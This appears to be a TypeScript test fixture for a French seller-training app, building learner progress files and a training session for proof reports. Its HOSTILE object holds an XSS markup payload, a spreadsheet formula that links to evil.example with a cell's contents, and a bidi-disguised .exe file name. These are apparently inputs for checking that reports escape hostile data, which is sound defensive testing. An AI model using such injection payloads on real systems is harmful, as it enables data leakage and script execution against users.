/* People who worked through a real programme, for tests of proofs. */
import { programmes } from '../../utils/checklists';
import { stepsOf } from '../../utils/core/checklist';
import type { ProgressAction, ProgressEvent } from '../../utils/core/progress';
import type { ListingResult, ResultFile } from '../../utils/core/results';
import type { TrainingSession } from '../../utils/core/session';
import type { ProofSource } from '../../utils/proof/record';
import { recordOf } from '../../utils/proof/record';

export const HOSTILE = {
  markup: '<img src=x onerror="document.title=\'owned\'"><script>document.title="owned"</script>',
  formula: '=HYPERLINK("http://evil.example/?"&A1;"click")',
  bidi: '\u202Egnp.exe\u202C \u0000\u0007 \uD800',
  long: 'très long '.repeat(800),
};

const DAY = 86_400_000;
export const MORNING = new Date(2026, 10, 23, 9, 12).getTime();
/** Has few modules, so that a report of it stays short. */
export const PROGRAMME = programmes.find(({ id }) => id === 'sell-amazon')!;

const result = (at: number, failed: ListingResult['failed']): ListingResult => {
  const count = (severity: string) => failed.filter((one) => one.severity === severity).length;
  const counts = { blocking: count('blocking'), important: count('important'), advice: count('advice') };
  return {
    at,
    standing: counts.blocking ? 'blocked' : failed.length ? 'improve' : 'check',
    counts: { ...counts, toCheck: 3, passed: 20 - failed.length, waived: 0 },
    coverage: { made: 20, total: 26 },
    failed,
  };
};

const FAULTS = [
  { rule: 'title-length', severity: 'blocking' },
  { rule: 'picture-count', severity: 'important' },
  { rule: 'gpsr-manufacturer', severity: 'important' },
  { rule: 'bullet-style', severity: 'advice' },
] as const;

/** A learner's file: two half-days of work, a lost proof, an undone mark, a step set aside, notes and remarks. */
export function learnerFile(pseudonym: string, seed: number, words: Partial<typeof HOSTILE> = {}): ResultFile {
  const journey = `journey-${seed}`;
  const [first, second] = PROGRAMME.modules;
  const steps = stepsOf(first!);
  const proof = { marketplace: 'amazon', listing: 'Fiche 1', title: 'Fiche 1' };
  const quiz = (module: typeof first, wrong: number) =>
    module!.quiz.map(({ id, answer, choices }, index) => {
      const right = index >= wrong;
      return { question: id, choice: right ? answer : (answer + 1) % choices.length, right };
    });
  const actions: (readonly [at: number, action: ProgressAction])[] = [
    [0, { type: 'journeyStarted', programme: PROGRAMME.id, name: words.markup ?? 'Vendre sur Amazon' }],
    [1, { type: 'quizTaken', module: first!.id, occasion: 'before', answers: quiz(first, 2 + (seed % 2)) }],
    ...first!.objectives.map(
      ({ id }) => [2, { type: 'selfAssessed', objective: id, occasion: 'before', level: 1 + (seed % 2) }] as const,
    ),
    ...steps.slice(0, 6).map(({ id }, index) => [10 + index, { type: 'stepOpened', step: id }] as const),
    [20, { type: 'stepMarked', step: steps[0]!.id, by: 'learner', done: true }],
    [21, { type: 'stepMarked', step: steps[1]!.id, by: 'learner', done: true }],
    [22, { type: 'stepMarked', step: steps[5]!.id, by: 'learner', done: true }],
    [23, { type: 'undone', event: `${journey}-22` }],
    [30, { type: 'stepProved', step: steps[2]!.id, proof }],
    [31, { type: 'stepProved', step: steps[3]!.id, proof }],
    [32, { type: 'stepSetAside', step: steps[4]!.id, reason: words.formula ?? 'Pas de catalogue papier à reprendre.' }],
    [33, { type: 'noteWritten', step: steps[0]!.id, by: 'learner', text: words.bidi ?? 'Revoir les dimensions.' }],
    [1440, { type: 'stepLost', step: steps[3]!.id, proof, rules: ['title-length'] }],
    [1450, { type: 'stepMarked', step: steps[0]!.id, by: 'trainer', done: true }],
    [1460, { type: 'quizTaken', module: first!.id, occasion: 'after', answers: quiz(first, seed % 2) }],
    ...first!.objectives.map(
      ({ id }) => [1461, { type: 'selfAssessed', objective: id, occasion: 'after', level: 3 + (seed % 2) }] as const,
    ),
    [1470, { type: 'stepOpened', step: stepsOf(second!)[0]!.id }],
    [1480, { type: 'remarkWritten', module: first!.id, text: words.long ?? 'Données bien tenues ; reste la marque.' }],
  ];
  const events = actions.map(
    ([minutes, action], index) =>
      ({
        ...action,
        id: `${journey}-${minutes === 22 ? 22 : `e${index}`}`,
        at: MORNING + minutes * 60_000,
        journey,
      }) as ProgressEvent,
  );
  return {
    format: 'pret-a-vendre/results',
    version: 1,
    id: journey,
    pseudonym,
    exportedAt: MORNING + DAY + 8 * 3_600_000,
    journey: { id: journey, programme: PROGRAMME.id, name: 'Vendre sur Amazon' },
    events,
    listings: [
      {
        name: words.formula ?? 'Fiche 1',
        marketplace: 'amazon',
        first: result(MORNING + 3_600_000, FAULTS.slice(seed % 2)),
        last: result(MORNING + DAY, FAULTS.slice(2)),
      },
      {
        name: 'Fiche 2',
        marketplace: 'cdiscount',
        first: result(MORNING + 7_200_000, FAULTS.slice(1, 2)),
        last: result(MORNING + 7_200_000, FAULTS.slice(1, 2)),
      },
    ],
  };
}

export const SESSION: TrainingSession = {
  id: 'session-1',
  title: 'Vendre sur Amazon, groupe de novembre',
  place: 'Chambre de commerce, Tours',
  trainer: 'C. Martin',
  halfDays: [
    { date: '2026-11-24', half: 'morning' },
    { date: '2026-11-23', half: 'afternoon' },
    { date: '2026-11-23', half: 'morning' },
    { date: '2026-11-24', half: 'afternoon' },
  ],
  objectives: ['Publier une première fiche complète.', 'Savoir où lire ce que la loi demande.'],
  programme: PROGRAMME.id,
  participants: ['Dune de sel', 'Phare d’opale', 'Lande de liège', 'Comète de jade'].map((pseudonym, index) => ({
    id: `p${index}`,
    pseudonym,
    remark: index === 0 ? 'Autonome le second jour.' : '',
  })),
  remark: 'Le groupe a demandé plus de temps sur les photos.',
  createdAt: MORNING - DAY,
  changedAt: MORNING,
};

/** Three of the four have handed in. */
export const FILES = SESSION.participants.slice(0, 3).map(({ pseudonym }, index) => learnerFile(pseudonym, index));

export const sourceOf = (files: readonly ResultFile[]): ProofSource => ({
  session: SESSION,
  programme: PROGRAMME,
  learners: files.map((file) => recordOf(file, { programmes })!),
  missing: ['Comète de jade'],
  madeAt: MORNING + DAY,
});
